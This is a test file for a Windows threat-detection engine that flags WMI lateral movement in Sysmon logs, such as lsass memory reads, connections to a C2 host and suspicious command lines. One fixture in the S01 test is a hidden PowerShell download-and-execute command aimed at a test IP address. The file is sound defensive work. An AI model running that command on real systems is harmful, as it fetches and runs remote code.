import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  at,
  brief,
  CLR,
  CMD,
  connected,
  eventIds,
  guid,
  hunt,
  huntEvents,
  logon,
  lsassRead,
  only,
  POWERSHELL,
  SCRCONS,
  SVCHOST,
  SYSTEM32,
  start,
} from '../../test/judged.ts';
import { madeEvents } from '../../test/made-event.ts';
import { sysmon } from '../../testkit/index.ts';
import type { Event } from '../windows/index.ts';

test('M01: a process below a child of WMI that reads lsass is critical, by ProcessGuid (J22)', () => {
  const models = [
    logon(),
    start(100, CMD, '09:00:00.2000000', { commandLine: 'cmd /c t.exe' }),
    start(200, 'C:\\Users\\Public\\t.exe', '09:00:01.2000000', {
      parentPid: 100,
      parentImage: CMD,
      parentGuid: guid('100'),
    }),
    lsassRead(200, 'C:\\Users\\Public\\t.exe', '09:00:02.2000000'),
  ];
  const found = only(hunt(models, 'M01'));
  assert.deepEqual(brief([found]), [
    'M01 lateral critical t.exe as CORP\\alice, below what WMI started on SRV-02, opened lsass.exe to read its memory',
  ]);
  assert.deepEqual(eventIds(found), [1, 10]);
  assert.deepEqual(
    found.joins.map(({ join, strength }) => `${join} ${strength}`),
    ['J22 exact'],
  );
  const [own] = found.glue.processes;
  assert.deepEqual(
    [own?.key, own?.ancestors].flat().map((key) => key?.split('\u0000').at(-1)),
    [guid('200'), guid('100')],
  );
});

test('M01: the same access by a process that WMI did not start, or with rights that read no memory, is none', () => {
  const other = start(300, 'C:\\x\\t.exe', '09:00:01.2000000', { parentImage: CMD, parentGuid: guid('9') });
  assert.deepEqual(hunt([other, lsassRead(300, 'C:\\x\\t.exe', '09:00:02.2000000')], 'M01'), []);
  const child = start(100, CMD, '09:00:00.2000000');
  assert.deepEqual(hunt([child, lsassRead(100, CMD, '09:00:02.2000000', 0x1000)], 'M01'), []);
});

test('N02: a child of WMI that connects outside within ten minutes is high and names where (J22)', () => {
  const lookup = sysmon.event(
    22,
    {
      ProcessGuid: guid('100'),
      ProcessId: 100,
      Image: POWERSHELL,
      QueryName: 'c2.example.net',
      QueryResults: '::ffff:203.0.113.5;',
    },
    at('09:00:02.0000001'),
  );
  const found = only(
    hunt(
      [logon(), start(100, POWERSHELL, '09:00:00.2000000'), lookup, connected(100, POWERSHELL, '09:00:02.6000000')],
      'N02',
    ),
  );
  assert.deepEqual(brief([found]), [
    'N02 lateral high powershell.exe as CORP\\alice on SRV-02, which WMI started, connected to 203.0.113.5:443 (c2.example.net)',
  ]);
  assert.equal(found.finding.terms[0]?.text, 'external connection 2.4 s after its start');
  assert.deepEqual(eventIds(found), [1, 3]);
});

test('N02: a connection to a host in evidence, in the same private range, or later, is none', () => {
  const other = (to: string, time: string): string[] =>
    brief(hunt([start(100, POWERSHELL, '09:00:00.2000000'), connected(100, POWERSHELL, time, { to })], 'N02'));
  assert.deepEqual(other('10.9.9.9', '09:00:02.6000000'), []);
  assert.deepEqual(other('127.0.0.1', '09:00:02.6000000'), []);
  assert.deepEqual(other('203.0.113.5', '09:11:00.6000000'), []);
  assert.equal(other('172.16.5.5', '09:00:02.6000000').length, 1);
});

test('S01: the text of a process is low, medium or high at 10, 25 and 40 points (C14)', () => {
  const levels = [
    'cmd.exe /c C:\\Users\\Public\\a.exe',
    'powershell.exe -enc ZQBjAGgAbwA=',
    'powershell.exe -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a\')"',
  ].map((commandLine) => {
    const { finding } = only(hunt([start(100, CMD, '09:00:00.2000000', { commandLine })], 'S01'));
    return [finding.level, finding.score, finding.terms.length];
  });
  assert.deepEqual(levels, [
    ['low', 20, 1],
    ['medium', 40, 1],
    ['high', 65, 1],
  ]);
});

test('S01: a text under 10 points, or below a process that WMI did not start, is none', () => {
  const line = 'powershell.exe -enc ZQBjAGgAbwA=';
  assert.deepEqual(
    hunt([start(100, `${SYSTEM32}notepad.exe`, '09:00:00.2000000', { commandLine: 'notepad' })], 'S01'),
    [],
  );
  assert.deepEqual(
    hunt([start(100, POWERSHELL, '09:00:00.2000000', { commandLine: line, parentImage: CMD })], 'S01'),
    [],
  );
});

test('S06: a script host that connects or loads .NET is high, and names it, also where its start is in no log', () => {
  const by = { ProcessGuid: guid('972'), ProcessId: 972, Image: SCRCONS };
  const begun = start(972, SCRCONS, '09:00:00.2000000', {
    parentImage: SVCHOST,
    user: 'NT AUTHORITY\\SYSTEM',
    logonId: 0x3e7n,
  });
  const load = sysmon.event(7, { ...by, ImageLoaded: CLR }, at('09:00:00.5000000'));
  const network = connected(972, SCRCONS, '09:00:02.5000000');
  assert.deepEqual(brief(hunt([begun, load], 'S06')), [
    'S06 wmi high A script consumer ran on SRV-02; it loaded the .NET runtime; its subscription is not in the logs',
  ]);
  const seen = only(hunt([begun, load, network], 'S06'));
  assert.deepEqual(eventIds(seen), [1, 3, 7]);
  assert.deepEqual(
    seen.joins.map(({ join }) => join),
    ['J22'],
  );
  const unseen = only(hunt([load, network], 'S06'));
  assert.deepEqual(brief([unseen]), [
    'S06 wmi high A script consumer ran on SRV-02; it connected to 203.0.113.5:443 and loaded the .NET runtime; its start is not in the logs',
  ]);
  assert.deepEqual(eventIds(unseen), [3, 7]);
});

test('S06: wshom.ocx and the pipe \\lsass, which every script host has, do not make it high', () => {
  const by = { ProcessGuid: guid('972'), ProcessId: 972, Image: SCRCONS };
  const begun = start(972, SCRCONS, '09:00:00.2000000', { parentImage: SVCHOST });
  const load = sysmon.event(7, { ...by, ImageLoaded: `${SYSTEM32}wshom.ocx` }, at('09:00:00.5000000'));
  assert.deepEqual(brief(hunt([begun, load], 'S06')), [
    'S06 wmi medium A script consumer ran on SRV-02; it loaded wshom.ocx; its subscription is not in the logs',
  ]);
});

test('C20: SYSTEM, machine accounts and the sessions of services glue nothing', () => {
  const child = start(100, POWERSHELL, '09:00:00.2000000', {
    user: 'NT AUTHORITY\\SYSTEM',
    logonId: 0x3e7n,
    commandLine: 'powershell.exe -enc ZQBjAGgAbwA=',
  });
  const { glue } = only(hunt([child], 'S01'));
  assert.deepEqual([glue.logons, glue.accounts, glue.processes.length], [[], [], 1]);
});

test('B16, A16: what only text without escapes tells is a J22 of strong; what a foreign template decoded is said to be inferred', () => {
  const models = [start(100, CMD, '09:00:00.2000000'), lsassRead(100, CMD, '09:00:02.2000000')];
  const told = (over: Partial<Event>): (string | undefined)[] => {
    const events = madeEvents(models).map((event) => {
      const made: Event = { ...event, ...over, detach: () => made };
      return made;
    });
    const { finding, joins } = only(huntEvents(events, 'M01'));
    return [joins[0]?.strength, finding.terms[0]?.text.split('; ')[1]];
  };
  assert.deepEqual(told({}), ['exact', undefined]);
  assert.deepEqual(told({ shape: 'S12' }), ['strong', undefined]);
  assert.deepEqual(told({ isForeignTemplate: true }), ['exact', 'inferred: decoded by a template of another chunk']);
});
